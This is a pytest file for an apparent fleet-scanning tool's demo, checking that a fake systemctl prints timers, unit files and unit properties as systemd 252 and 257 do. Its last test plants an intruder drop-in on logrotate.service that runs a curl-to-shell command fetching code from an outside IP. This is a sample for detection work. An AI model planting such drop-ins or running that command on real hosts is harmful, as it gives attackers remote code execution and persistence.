"""What the stand-in for systemctl prints has the layout of the release it imitates."""

import json
import re
from datetime import UTC, datetime

import pytest

from fleetscan.demo.answers import build_answers
from fleetscan.demo.image import DemoHost, build_tree, cast_fleet
from fleetscan.demo.intruder import plant_drop_in
from fleetscan.demo.loaded import load_units
from fleetscan.demo.release import BOOKWORM, TRIXIE, Release
from fleetscan.demo.roles import WEB

NOW = datetime(2026, 3, 4, 7, 8, 9, tzinfo=UTC)
BOTH = pytest.mark.parametrize("release", [BOOKWORM, TRIXIE], ids=["systemd 252", "systemd 257"])


def answers_of(release: Release) -> dict[str, str]:
    host = DemoHost("web-01", WEB, release)
    files = build_answers(host, load_units(host, build_tree(host), NOW), NOW)
    return {path.removeprefix(".shim/"): file.text for path, file in files.items()}


@BOTH
def test_table_and_json_list_the_same_timers_in_order_of_next_run(release: Release) -> None:
    answers = answers_of(release)
    rows = json.loads(answers["out/list-timers.json"])
    *lines, blank, footer = answers["out/list-timers.table"].splitlines()[1:]
    assert [line.split()[-2] for line in lines] == [row["unit"] for row in rows]
    assert [row["next"] for row in rows] == sorted(row["next"] for row in rows)
    assert (blank, footer) == ("", f"{len(rows)} timers listed.")


@BOTH
def test_json_repeats_next_as_left(release: Release) -> None:
    rows = json.loads(answers_of(release)["out/list-timers.json"])
    assert list(rows[0]) == ["next", "left", "last", "passed", "unit", "activates"]
    assert all(row["left"] == row["next"] for row in rows)


def test_passed_is_absolute_in_252_and_counts_from_boot_in_257() -> None:
    old = json.loads(answers_of(BOOKWORM)["out/list-timers.json"])
    new = json.loads(answers_of(TRIXIE)["out/list-timers.json"])
    assert all(row["passed"] == row["last"] for row in old)
    assert all(0 <= row["passed"] < 10 * 86400 * 1_000_000 for row in new)


def test_left_is_said_in_252_and_aligned_to_the_right_in_257() -> None:
    old = answers_of(BOOKWORM)["out/list-timers.table"].splitlines()
    new = answers_of(TRIXIE)["out/list-timers.table"].splitlines()
    assert re.match(r"NEXT +LEFT +LAST +PASSED +UNIT +ACTIVATES$", old[0])
    assert old[1].startswith("Wed 2026-03-04 07:10:00 UTC 1min 51s left ")
    assert old[0].index("LEFT") == old[1].index("1min")
    assert " left" not in "".join(new)
    assert new[0].index("LEFT") + 4 == new[1].index("1min 51s") + 8


@BOTH
def test_unit_files_say_static_alias_and_masked_without_inventing_a_preset(release: Release) -> None:
    answers = answers_of(release)
    rows = {row["unit_file"]: (row["state"], row["preset"]) for row in json.loads(answers["out/list-unit-files.json"])}
    assert rows["apt-daily.timer"] == ("enabled", "enabled")
    assert rows["apt-daily.service"] == ("static", None)
    assert rows["sshd.service"] == ("alias", None)
    assert rows["cryptdisks.service"] == ("masked", "enabled")
    table = answers["out/list-unit-files.table"]
    assert re.search(r"^apt-daily\.service +static +-$", table, re.MULTILINE)
    assert table.endswith(f"\n\n{len(rows)} unit files listed.\n")


def test_vendor_units_are_spelled_as_each_release_spells_them() -> None:
    assert "\nFragmentPath=/lib/systemd/system/apt-daily.timer\n" in answers_of(BOOKWORM)["show/apt-daily.timer"]
    assert "\nFragmentPath=/usr/lib/systemd/system/apt-daily.timer\n" in answers_of(TRIXIE)["show/apt-daily.timer"]


@BOTH
def test_timer_block_has_the_normalised_schedule(release: Release) -> None:
    block = answers_of(release)["show/apt-daily.timer"]
    assert block.startswith("Unit=apt-daily.service\nTimersCalendar={ OnCalendar=*-*-* 06,18:00:00 ; next_elapse=")
    assert "\nRandomizedDelayUSec=12h\n" in block
    assert "\nPersistent=yes\n" in block


def test_monotonic_schedules_are_printed_in_reverse_order_of_the_file() -> None:
    lines = answers_of(BOOKWORM)["show/systemd-tmpfiles-clean.timer"].splitlines()
    kinds = [line.split()[1] for line in lines if line.startswith("TimersMonotonic=")]
    assert kinds == ["OnUnitActiveUSec=1d", "OnBootUSec=15min"]


def test_commands_are_shown_one_a_line_with_prefixes_taken_off() -> None:
    block = answers_of(BOOKWORM)["show/man-db.service"]
    paths = re.findall(r"^ExecStart=\{ path=(\S+) ; argv\[\]=\1 ", block, re.MULTILINE)
    assert paths == ["/usr/bin/install", "/usr/bin/find", "/usr/bin/mandb"]
    ignoring = answers_of(BOOKWORM)["show/apt-daily.service"]
    assert "argv[]=/usr/lib/apt/apt-helper wait-online ; ignore_errors=yes ;" in ignoring


def test_drop_in_shows_in_the_block_and_its_quotes_are_lost_as_in_systemd() -> None:
    host = cast_fleet(12)[0]
    tree = build_tree(host)
    plant_drop_in(tree)
    block = build_answers(host, load_units(host, tree, NOW), NOW)[".shim/show/logrotate.service"].text
    assert "argv[]=/bin/sh -c curl -fsS http://198.51.100.7/c | sh ; ignore_errors=yes" in block
    assert "\nDropInPaths=/etc/systemd/system/logrotate.service.d/10-compress.conf\n" in block
